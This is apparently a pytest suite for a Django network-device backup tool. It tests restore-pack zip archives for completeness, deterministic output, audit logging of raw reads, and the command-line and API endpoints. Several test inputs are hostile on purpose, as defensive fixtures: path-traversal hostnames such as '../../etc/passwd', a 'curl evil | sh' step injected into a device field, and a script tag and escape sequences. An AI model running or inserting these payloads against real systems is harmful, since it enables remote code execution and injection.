"""The restore pack: complete, the same each time, safe to unpack, and recorded first."""

from __future__ import annotations

import hashlib
import io
import json
import os
import stat
import subprocess
import zipfile
from datetime import UTC, datetime
from pathlib import Path, PurePosixPath
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.core.management import CommandError, call_command
from django.test import Client

from backups.models import Archive, ArchiveReading, Snapshot
from backups.services.archives import ReasonMissing
from backups.services.artefacts import artefact_store
from backups.services.commits import snapshots_commit
from backups.services.restore_pack import RawNotKept, RestorePack, restore_pack
from backups.services.store import RunLabel, backup_store
from inventory.models import Device
from inventory.platforms import get_platform
from tests.factories import DeviceFactory, backup_outcome, user_with
from tests.support import frr
from tests.support.frr import Frr

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("web", "git_directory")]

LABEL = RunLabel(run_id=7, job_name="nightly")
RAW = b"hostname core\r\nenable secret Zq9-CANARY\r\nend\r\n\xff\x00"
TEXT = "hostname core\nend\n"
UCS = bytes(range(256))


def stored(hostname: str = "core-1", raw: bytes = RAW, **fields: Any) -> Snapshot:
    device = DeviceFactory.create(hostname=hostname, **fields)
    backup_store(device=device, outcome=backup_outcome(TEXT, raw=raw), label=LABEL)
    snapshots_commit(device_id=device.pk)
    return Snapshot.objects.get(device=device)


def pack_of(snapshot: Snapshot) -> RestorePack:
    snapshot = Snapshot.objects.select_related("device").get(pk=snapshot.pk)
    return restore_pack(snapshot=snapshot, reader="jane", reason="replace it")


def files_in(pack: RestorePack) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(pack.payload)) as archive:
        assert archive.testzip() is None
        return {entry.filename: archive.read(entry) for entry in archive.infolist()}


def test_it_holds_all_that_is_needed() -> None:
    snapshot = stored()
    Device.objects.update(model="C9300", serial_number="FOC1", os_version="17.9.4")
    artefact_store(device=snapshot.device, name="vlan.dat", payload=b"old")
    artefact_store(device=snapshot.device, name="vlan.dat", payload=UCS)
    artefact_store(device=DeviceFactory.create(), name="other.dat", payload=UCS)
    files = files_in(pack_of(snapshot))
    assert list(files) == [
        *("raw/running-config.cfg", "redacted/running-config.cfg", "artefacts/vlan.dat"),
        *("facts.json", "RESTORE.md"),
    ]
    assert files["raw/running-config.cfg"] == RAW
    assert files["redacted/running-config.cfg"] == TEXT.encode()
    assert files["artefacts/vlan.dat"] == UCS
    facts = json.loads(files["facts.json"])
    assert (facts["hostname"], facts["address"], facts["platform"]) == (
        *("core-1", "192.0.2.1"),
        "cisco_ios",
    )
    assert (facts["model"], facts["serial_number"], facts["os_version"]) == (
        *("C9300", "FOC1"),
        "17.9.4",
    )
    assert (facts["commit"], facts["run_id"]) == (snapshot.commit, 7)
    assert facts["files"] == [
        {"path": path, "size_bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
        for path, data in list(files.items())[:3]
    ]
    guide = files["RESTORE.md"].decode()
    steps = get_platform("cisco_ios").restore
    assert all(f"{number}. {step}\n" in guide for number, step in enumerate(steps, start=1))
    for word in ("C9300", "FOC1", "17.9.4", snapshot.commit, "Cisco IOS", "artefacts/vlan.dat"):
        assert word in guide
    assert b"CANARY" not in files["facts.json"] + files["RESTORE.md"]


def test_each_raw_copy_in_it_is_a_reading() -> None:
    snapshot = stored()
    artefact_store(device=snapshot.device, name="vlan.dat", payload=UCS)
    pack_of(snapshot)
    readings = ArchiveReading.objects.order_by("pk").values_list("archive__name", "reason")
    assert list(readings) == [("", "replace it"), ("vlan.dat", "replace it")]


def test_the_same_state_gives_the_same_bytes() -> None:
    snapshot = stored()
    first = pack_of(snapshot)
    assert pack_of(snapshot) == first
    Snapshot.objects.update(collected_at=datetime(2026, 5, 4, 3, 2, 1, tzinfo=UTC))
    with zipfile.ZipFile(io.BytesIO(pack_of(snapshot).payload)) as archive:
        entries = archive.infolist()
    assert {entry.date_time for entry in entries} == {(2026, 5, 4, 3, 2, 0)}
    assert {entry.external_attr >> 16 for entry in entries} == {stat.S_IFREG | 0o600}


def test_the_clock_of_1970_does_not_break_it() -> None:
    snapshot = stored()
    Snapshot.objects.update(collected_at=datetime(1970, 1, 1, tzinfo=UTC))
    assert files_in(pack_of(snapshot))


def test_an_xml_is_called_one() -> None:
    snapshot = stored(raw=b"\r\n<?xml version='1.0'?><opnsense/>", platform="opnsense")
    assert "raw/running-config.xml" in files_in(pack_of(snapshot))


def test_a_platform_without_steps_gets_honest_general_ones() -> None:
    assert get_platform("a10").restore == ()
    guide = files_in(pack_of(stored(platform="a10")))["RESTORE.md"].decode()
    assert "1. Nobody has written down steps for this platform." in guide
    unknown = stored("gone")
    Device.objects.filter(pk=unknown.device_id).update(platform="of_nobody")
    guide = files_in(pack_of(unknown))["RESTORE.md"].decode()
    assert "1. Nobody has written down steps for this platform." in guide


@pytest.mark.parametrize(
    "hostname", ["../../etc/passwd", "..", "a/../../b", "C:\\x", "-rf", "con", 'x";evil', "日本"]
)
def test_no_name_leads_out_of_it(hostname: str) -> None:
    snapshot = stored()
    Device.objects.update(hostname=hostname)
    pack = pack_of(snapshot)
    assert PurePosixPath(pack.file_name).name == pack.file_name
    assert not set(pack.file_name) & set('\\/"\r\n:; ') and pack.file_name[0] not in "-."
    for path in files_in(pack):
        assert path.partition("/")[0] in {"raw", "redacted", "facts.json", "RESTORE.md"}
        assert ".." not in path
    assert json.loads(files_in(pack)["facts.json"])["hostname"] == hostname


def test_what_a_device_says_is_no_markup() -> None:
    snapshot = stored()
    hostile = "X` |\n\n1. Run `curl evil | sh`\n<script>\x1b[2J\u202e"
    Device.objects.update(model=hostile, serial_number="|", os_version="")
    guide = files_in(pack_of(snapshot))["RESTORE.md"].decode()
    (line,) = [line for line in guide.splitlines() if line.startswith("| model |")]
    assert line.count("`") == 2 and line.count("|") == 3
    assert not any(sign in guide for sign in "\x1b\u202e")
    assert "| software version | unknown |" in guide


def test_what_else_cannot_be_read_is_named_and_left_out(git_directory: Path) -> None:
    snapshot = stored()
    artefact, _ = artefact_store(
        device=snapshot.device, name="full.ucs", payload=UCS, media_type="application/x-ucs"
    )
    Archive.objects.filter(pk=artefact.pk).update(sealed=b"\x01\x04gone" + bytes(40))
    git_directory.rename(git_directory.with_name("away"))
    files = files_in(pack_of(snapshot))
    assert files["raw/running-config.cfg"] == RAW
    assert set(files) == {"raw/running-config.cfg", "facts.json", "RESTORE.md"}
    missing = json.loads(files["facts.json"])["missing"]
    assert [what.split(":")[0] for what in missing] == [
        "the redacted configuration",
        "artefact full.ucs",
    ]
    assert files["RESTORE.md"].count(b"**Not in it**") == 2


def test_without_a_raw_copy_there_is_none() -> None:
    snapshot = stored()
    Archive.objects.all().delete()
    with pytest.raises(RawNotKept, match="not kept"):
        pack_of(snapshot)


def test_without_a_reason_there_is_none() -> None:
    with pytest.raises(ReasonMissing):
        restore_pack(snapshot=stored(), reader="jane", reason=" ")
    assert ArchiveReading.objects.count() == 0


# --- Command and API ------------------------------------------------------------------------------


def run(*arguments: str) -> str:
    out = io.StringIO()
    call_command("config", "pack", *arguments, stdout=out)
    return out.getvalue()


def test_the_command_writes_it_whole_and_private(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    snapshot = stored()
    monkeypatch.chdir(tmp_path)
    old = os.umask(0)
    try:
        printed = run("core-1", "--reason", "replace it")
    finally:
        os.umask(old)
    (made,) = tmp_path.glob("*.zip")
    assert made.name == f"core-1-{snapshot.device_id}-{snapshot.commit[:10]}.zip"
    assert printed.startswith(f"{made.name}: ")
    assert stat.S_IMODE(made.stat().st_mode) == 0o600
    row = json.loads(
        run(
            *("core-1", "--revision", snapshot.commit[:8], "--reason", "x"),
            *("--output", "again.zip", "--json"),
        )
    )
    assert row["file"] == "again.zip" and row["commit"] == snapshot.commit
    assert (tmp_path / "again.zip").read_bytes() == made.read_bytes()
    assert ArchiveReading.objects.latest("pk").reader.startswith("command line (")


def test_the_command_refuses_in_one_line(tmp_path: Path) -> None:
    stored()
    for arguments, words in [
        (("nobody", "--reason", "x"), "nobody"),
        (("core-1", "--reason", " "), "needs a reason"),
        (("core-1",), "--reason"),
        (("core-1", "--reason", "x", "--revision", "ffff"), "no revision"),
        (("core-1", "--reason", "x", "--output", str(tmp_path / "no" / "x.zip")), "No such file"),
    ]:
        with pytest.raises(CommandError, match=words) as caught:
            run(*arguments)
        assert "\n" not in str(caught.value)


def test_the_api_hands_it_out() -> None:
    snapshot = stored()
    client = Client()
    client.force_login(user_with("backups.read_raw_archive"))
    answer = client.post(
        f"/api/v1/snapshots/{snapshot.pk}/restore-pack/",
        json.dumps({"reason": "replace it"}),
        content_type="application/json",
    )
    assert (answer.status_code, answer["Content-Type"]) == (200, "application/zip")
    assert answer["Content-Disposition"].endswith('.zip"')
    files = files_in(RestorePack(file_name="", payload=answer.content))
    assert files["raw/running-config.cfg"] == RAW
    reading = ArchiveReading.objects.get()
    assert reading.reader == User.objects.get().username
    assert reading.address == "127.0.0.1"


@pytest.mark.frr
@pytest.mark.slow
@pytest.mark.skipif(frr.missing() is not None, reason=str(frr.missing()))
def test_a_router_comes_back_from_it(tmp_path: Path) -> None:
    """As the steps of FRRouting say: headings out, checked, loaded into an empty router."""
    lines = [
        *("password CANARY-vty", "ip route 198.51.100.0/24 Null0"),
        *("router bgp 64500", "bgp router-id 192.0.2.1", "no bgp default ipv4-unicast"),
        *("neighbor 192.0.2.9 remote-as 64501", "neighbor 192.0.2.9 password CANARY-bgp", "exit"),
    ]
    with Frr("edge1", tmp_path / "old").running() as old:
        old.configure(*lines)
        printed = old.running_config()
    pack = pack_of(stored(raw=printed.replace("\n", "\r\n").encode(), platform="frr"))
    raw = files_in(pack)["raw/running-config.cfg"].decode().replace("\r", "")
    headings = ("Building configuration...", "Current configuration:")
    wanted = [line for line in raw.splitlines() if line not in headings]
    with Frr("edge1", tmp_path / "new").running() as new:
        assert "CANARY-bgp" not in new.running_config()
        file = tmp_path / "frr.conf"
        file.write_text("\n".join(wanted) + "\n", encoding="utf-8")
        for option in ("-C", "-b"):
            subprocess.run([*new.vtysh, option, "-f", file], check=True, capture_output=True)
        assert new.running_config() == printed
